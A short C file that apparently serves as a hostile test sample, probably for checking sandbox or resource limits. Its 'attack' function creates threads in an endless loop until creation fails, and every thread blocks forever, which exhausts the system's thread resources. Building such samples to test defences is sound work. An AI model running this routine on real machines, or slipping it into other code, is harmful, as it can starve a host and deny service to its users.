/* Starts threads without end. */
#define _GNU_SOURCE
#include <pthread.h>
#include <unistd.h>
#include "hostile.h"

static void *rest(void *nothing) {
    for (;;) {
        pause();
    }
    return nothing;
}

static void attack(unsigned char choice) {
    (void)choice;
    pthread_t thread;
    while (pthread_create(&thread, NULL, rest, NULL) == 0) {
    }
}
